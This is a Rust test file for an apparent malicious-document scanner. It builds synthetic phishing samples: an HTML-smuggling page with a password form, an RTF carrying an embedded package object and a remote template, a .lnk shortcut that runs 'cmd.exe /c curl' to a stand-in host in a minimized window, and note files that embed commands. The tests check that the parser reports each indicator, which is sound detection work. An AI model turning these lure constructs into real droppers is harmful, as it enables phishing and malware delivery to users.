use base64::Engine;
use base64::engine::general_purpose::STANDARD as ENCODER;

use super::*;

fn page() -> String {
    let file = ENCODER.encode([&b"PK\x03\x04"[..], &[7; 2_000]].concat());
    let link = ENCODER.encode("https://hidden.example/login");
    let twice = ENCODER.encode(ENCODER.encode("window.location='https://twice.example/'"));
    format!(
        "<html><body onload=\"start()\"><form action=\"https://form.example/?a=1&amp;b=2\"><input type=Password></form>\
         <a href=\"https://link.example/\">x</a><a download='invoice.iso'></a>\
         <img src=\"data:text/html;base64,PGI+aGk8L2I+\">\
         <script>var f=atob('{file}'); var l=\"{link}\"; var t='{twice}'; URL.createObjectURL(f)</script></body></html>"
    )
}

fn rtf() -> Vec<u8> {
    let mut object = Vec::new();
    for word in [0x501_u32, 2, 8] {
        object.extend_from_slice(&word.to_le_bytes());
    }
    object.extend_from_slice(b"Package\0");
    object.extend_from_slice(&[0; 8]);
    let mut body = b"\x02\0a\0C:\\x\\run.js\0\0\0\x03\0\x02\0\0\0t\0".to_vec();
    body.extend_from_slice(&3_u32.to_le_bytes());
    body.extend_from_slice(b"run");
    object.extend_from_slice(&u32::try_from(body.len()).unwrap().to_le_bytes());
    object.extend(body);
    let hex: String = object
        .iter()
        .map(|byte| format!("{byte:02x}{}", if *byte == 0 { "{\\*\\x}\n" } else { "" }))
        .collect();
    format!(
        "{{\\rtf1{{\\info{{\\author J\\'fcrgen}}}}{{\\*\\template https://template.example/t}}Read {{\\field{{\\*\\fldinst HYPERLINK \
         \"https://field.example/\"}}}}{{\\object\\objemb\\objupdate{{\\*\\objclass Package}}{{\\*\\objdata {hex}}}}}the end\\par}}"
    )
    .into_bytes()
}

fn link() -> Vec<u8> {
    let mut out = shortcut::LINK.to_vec();
    out.extend_from_slice(&(2_u32 | 8 | 32 | 128).to_le_bytes());
    out.extend_from_slice(&[0; 36]);
    out.extend_from_slice(&7_u32.to_le_bytes());
    out.resize(0x4c, 0);
    let path = b"C:\\Windows\\System32\\cmd.exe\0";
    out.extend_from_slice(&u32::try_from(28 + path.len()).unwrap().to_le_bytes());
    for word in [28_u32, 1, 0, 28, 0, 0] {
        out.extend_from_slice(&word.to_le_bytes());
    }
    out.extend_from_slice(path);
    for text in ["..\\x.exe", "/c curl https://arguments.example/a"] {
        out.extend_from_slice(&u16::try_from(text.len()).unwrap().to_le_bytes());
        out.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    }
    out
}

fn section() -> Vec<u8> {
    let mut out = note::SECTION.to_vec();
    out.extend_from_slice(&[0; 100]);
    out.extend([
        0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac,
    ]);
    out.extend_from_slice(&9_u64.to_le_bytes());
    out.extend_from_slice(&[0; 12]);
    out.extend_from_slice(b"echo evil");
    out.extend("https://note.example/".encode_utf16().flat_map(u16::to_le_bytes));
    out
}

pub(super) fn samples() -> Vec<(Format, Vec<u8>)> {
    vec![
        (Format::Page, page().into_bytes()),
        (Format::Rtf, rtf()),
        (Format::Shortcut, link()),
        (Format::Note, section()),
    ]
}

#[test]
fn pages_that_carry_files_and_ask_for_passwords() {
    let contents = read(Format::Page, page().as_bytes());
    assert_eq!(facts(&contents, "form_target"), ["https://form.example/?a=1&b=2"]);
    assert_eq!(facts(&contents, "asks_for"), ["password"]);
    assert_eq!(facts(&contents, "download"), ["invoice.iso"]);
    assert_eq!(facts(&contents, "html_smuggling"), ["a script carries a file"]);
    assert_eq!(facts(&contents, "script_uses"), ["base64", "file made by script"]);
    assert_eq!(facts(&contents, "event"), ["onload start()"]);
    for words in ["https://link.example/\n", "https://hidden.example/login\n", "https://twice.example/"] {
        assert!(contents.words.contains(words), "{words}: {}", contents.words);
    }
    let items: Vec<_> =
        contents.items.iter().map(|item| (item.content_type.as_str(), content(item).len())).collect();
    assert_eq!(items, [("text/html", 9), ("application/zip", 2_004)]);
}

#[test]
fn rich_text_with_objects() {
    let contents = read(Format::Rtf, &rtf());
    assert_eq!(facts(&contents, "author"), ["Jürgen"]);
    assert_eq!(facts(&contents, "remote_template"), ["https://template.example/t"]);
    assert_eq!(facts(&contents, "active_content"), ["object that updates itself"]);
    assert_eq!(facts(&contents, "object_class"), ["Package"]);
    assert!(
        contents.words.contains("https://field.example/") && contents.words.contains("the end"),
        "{}",
        contents.words
    );
    let item = &contents.items[0];
    assert_eq!((item.name.as_deref(), content(item)), (Some("run.js"), &b"run"[..]));
}

#[test]
fn shortcuts() {
    let bytes = link();
    assert_eq!(format(&bytes), Some(Format::Shortcut));
    let contents = read(Format::Shortcut, &bytes);
    assert_eq!(facts(&contents, "target"), ["C:\\Windows\\System32\\cmd.exe"]);
    assert_eq!(facts(&contents, "relative_path"), ["..\\x.exe"]);
    assert_eq!(facts(&contents, "arguments"), ["/c curl https://arguments.example/a"]);
    assert_eq!(facts(&contents, "window"), ["minimized"]);
    assert!(contents.words.contains("https://arguments.example/a") && contents.defects.is_empty());
    for (text, name, value) in [
        (
            "[InternetShortcut]\r\nURL=https://url.example/\r\nIconFile=\\\\host\\i.ico",
            "target",
            "https://url.example/",
        ),
        ("[Desktop Entry]\nExec=sh -c evil\n", "command", "sh -c evil"),
        (
            "<plist><dict><key>URL</key>\n<string>https://mac.example/?a&amp;b</string></dict></plist>",
            "target",
            "https://mac.example/?a&b",
        ),
    ] {
        assert_eq!(facts(&read(Format::Shortcut, text.as_bytes()), name), [value]);
    }
}

#[test]
fn files_of_notes() {
    let bytes = section();
    assert_eq!(format(&bytes), Some(Format::Note));
    let contents = read(Format::Note, &bytes);
    assert_eq!(content(&contents.items[0]), b"echo evil");
    assert!(contents.words.contains("https://note.example/"));
}
